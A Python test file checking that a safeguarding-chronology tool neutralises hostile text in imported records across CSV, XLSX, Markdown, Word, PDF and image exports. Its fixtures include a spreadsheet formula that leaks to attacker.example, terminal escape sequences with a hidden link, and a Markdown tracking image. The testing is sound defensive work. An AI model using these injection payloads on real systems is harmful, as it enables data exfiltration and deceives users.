"""Hostile text in an extract never acts: not in a spreadsheet, not on a terminal, not in Markdown, not in Word.

The extract is what an agency (or someone who altered its file) wrote: control characters before a
formula, terminal escape sequences, Markdown images that fetch a remote address, a title too long for
Word's document properties.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

from docx import Document
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from support import JC

HEADER = ("date", "kind", "subjects", "summary", "reference")
NUL_FORMULA = '\x00=HYPERLINK("http://attacker.example/?leak","click")'
CLEAR_SCREEN = "\x1b[2J\x1b[H"
HIDDEN_LINK = "\x1b]8;;http://attacker.example/\x07click here\x1b]8;;\x07"
TRACKER = "![t](http://tracker.example/track.png) see [the file](http://attacker.example/x) <img src=x>"


def hostile_case(people: JC, write_csv: Callable[..., Path]) -> JC:
    extract = write_csv("school.csv", HEADER, [
        ("01/03/2019", "note", "Child A", NUL_FORMULA, "S-1"),
        ("02/03/2019", "note", "Child A", f"Seen at school.{CLEAR_SCREEN} {HIDDEN_LINK}", "S-2"),
        ("03/03/2019", "note", "Child A", TRACKER, "S-3"),
        (f"04/03/2019{CLEAR_SCREEN}", "note", "Child A", "A date with an escape in it.", "S-4"),
        (NUL_FORMULA, "note", "Child A", "A formula where the date should be.", "S-5"),
    ])  # fmt: skip
    result = people("import", extract, "--agency", "school")
    assert result.exit_code == 3, result.stderr
    return people


def test_a_nul_before_a_formula_is_written_out_and_the_cell_guarded_in_csv_xlsx_and_the_rejects_file(
    people: JC, write_csv: Callable[..., Path], store: Path, tmp_path: Path
) -> None:
    case = hostile_case(people, write_csv)
    # A CSV cell holding a NUL rejects its row (S-1), so the formula reaches the chronology through a correction.
    entries = json.loads(case("chronology", "--format", "json").stdout)
    tracker = next(e for e in entries if e["summary"].startswith("![t]"))
    amended = case(
        "amend", tracker["sources"][0]["contact_id"], "--set", f"summary={NUL_FORMULA}", "--reason", "test"
    )
    assert amended.exit_code == 0, amended.stderr

    rows = list(csv.DictReader(io.StringIO(case("chronology", "--format", "csv").stdout)))
    assert case("chronology", "--format", "xlsx", "-o", tmp_path / "c.xlsx").exit_code == 0
    sheet = load_workbook(tmp_path / "c.xlsx")["Chronology"]
    header = [c.value for c in sheet[1]]
    cells = [str(row[header.index("Summary")].value) for row in sheet.iter_rows(min_row=2)]
    (rejects,) = (store / "rejects").glob("school-*.csv")
    rejected = list(csv.DictReader(rejects.open(encoding="utf-8-sig")))

    csv_summary = next(r["summary"] for r in rows if "HYPERLINK" in r["summary"])
    xlsx_summary = next(c for c in cells if "HYPERLINK" in c)
    # The rejects file names a row with a NUL by its start, the NUL written out.
    rejected_values = [r["value"] for r in rejected if "HYPERLINK" in r["value"]]
    assert rejected_values and all("\x00" not in v and "\\x00=HYPERLINK" in v for v in rejected_values)
    assert all(not v.startswith(("=", "+", "-", "@")) for v in rejected_values)
    for written in (csv_summary, xlsx_summary):
        assert "\x00" not in written and written.startswith("\\x00=HYPERLINK"), written
    escaped = [r["value"] for r in rejected if "escape" not in r["value"] and "2J" in r["value"]]
    assert escaped == ["04/03/2019\\x1b[2J\\x1b[H"]


def test_terminal_escape_sequences_in_records_and_rejected_values_are_shown_escaped(
    people: JC, write_csv: Callable[..., Path]
) -> None:
    extract = write_csv("school.csv", HEADER, [
        ("02/03/2019", "note", "Child A", f"Seen at school.{CLEAR_SCREEN} {HIDDEN_LINK}", "S-2"),
        (f"04/03/2019{CLEAR_SCREEN}", "note", "Child A", "A date with an escape in it.", "S-4"),
        ("05/03/2019", f"note{HIDDEN_LINK}", "Child A", "A kind with a link in it.", "S-6"),
    ])  # fmt: skip
    imported = people("import", extract, "--agency", "school")
    entry = json.loads(people("chronology", "--format", "json").stdout)[0]
    shown = {
        "import": imported.stdout + imported.stderr,
        "table": people("chronology").stdout,
        "json": people("chronology", "--format", "json").stdout,
        "knowledge": people("knowledge").stdout,
        "history": people("history", entry["sources"][0]["contact_id"]).stdout,
    }

    assert imported.exit_code == 3
    assert {name: text for name, text in shown.items() if "\x1b" in text or "\x07" in text} == {}
    assert "\\x1b" in shown["table"] and "\\x1b]8;;http://attacker.example/\\x07" in shown["history"]
    assert "rejected: school.csv row 3, column 'date'" in shown["import"]


def test_markdown_syntax_in_a_record_is_escaped_so_that_no_link_or_image_renders(
    people: JC, write_csv: Callable[..., Path]
) -> None:
    case = hostile_case(people, write_csv)

    markdown = case("chronology", "--format", "md").stdout
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)

    assert "<table>" in rendered and "track.png" in rendered and "attacker.example/x" in rendered
    assert "<img" not in rendered and "<a " not in rendered, rendered
    row = next(line for line in markdown.splitlines() if "track.png" in line)
    header = next(line for line in markdown.splitlines() if line.startswith("| Date"))
    assert row.count("|") - row.count("\\|") == header.count("|")  # the text broke out of no cell


def test_a_review_title_longer_than_word_allows_in_a_property_still_exports_with_the_whole_heading(
    jc: JC, tmp_path: Path
) -> None:
    title = "Child Bk: a review of the multi-agency response " + "and of the agencies' records " * 10
    assert len(title) > 255
    assert jc("init", "--title", title, "--from", "01/01/2019", "--to", "31/12/2019").exit_code == 0

    result = jc("chronology", "--format", "docx", "-o", tmp_path / "c.docx")

    assert result.exit_code == 0, result.stderr
    document = Document(str(tmp_path / "c.docx"))
    assert document.paragraphs[0].text == title
    assert len(document.core_properties.title) <= 255
    assert document.core_properties.title.startswith("Child Bk: a review of the multi-agency response")
    pack = jc("report", "-o", tmp_path / "pack.docx")  # the review pack's Word document too
    assert pack.exit_code == 0, pack.stderr
    written = Document(str(tmp_path / "pack.docx"))
    assert written.paragraphs[0].text == title and len(written.core_properties.title) <= 255


def test_control_characters_in_a_record_or_the_title_are_written_out_in_every_document_and_image(
    jc: JC, write_csv: Callable[..., Path], tmp_path: Path
) -> None:
    # XML (inside XLSX, DOCX, SVG and the PNG's drawing) cannot hold these at all: written raw, they break it.
    title = f"The review{CLEAR_SCREEN} in full\x07"
    assert jc("init", "--title", title, "--from", "01/01/2019", "--to", "31/12/2019").exit_code == 0
    extract = write_csv("school.csv", HEADER, [
        ("01/03/2019", "note", "Child A", f"Seen.{CLEAR_SCREEN} bell\x07 tab\vff\x0c {HIDDEN_LINK}", "S-1"),
        ("02/03/2019", "note", "Child A", "Seen again.", "S-2"),
    ])  # fmt: skip
    assert jc("import", extract, "--agency", "school").exit_code == 0

    written = {
        "xlsx": jc("chronology", "--format", "xlsx", "-o", tmp_path / "c.xlsx"),
        "docx": jc("chronology", "--format", "docx", "-o", tmp_path / "c.docx"),
        "pack docx": jc("report", "-o", tmp_path / "pack.docx"),
        "pack pdf": jc("report", "-o", tmp_path / "pack.pdf"),
        "images": jc(
            "chart", "-o", tmp_path / "t.html", "--png", tmp_path / "t.png", "--svg", tmp_path / "t.svg"
        ),
    }

    assert {name: r.stderr for name, r in written.items() if r.exit_code != 0} == {}
    workbook = load_workbook(tmp_path / "c.xlsx")
    assert workbook.properties.title == "The review\\x1b[2J\\x1b[H in full\\x07"
    assert any("Seen.\\x1b[2J" in str(c.value) for row in workbook["Chronology"].iter_rows() for c in row)
    assert (
        Document(str(tmp_path / "pack.docx")).paragraphs[0].text == "The review\\x1b[2J\\x1b[H in full\\x07"
    )
    assert "\x1b" not in (tmp_path / "t.svg").read_text(encoding="utf-8")
    assert (tmp_path / "t.png").read_bytes().startswith(b"\x89PNG")
    assert (tmp_path / "pack.pdf").read_bytes().startswith(b"%PDF")
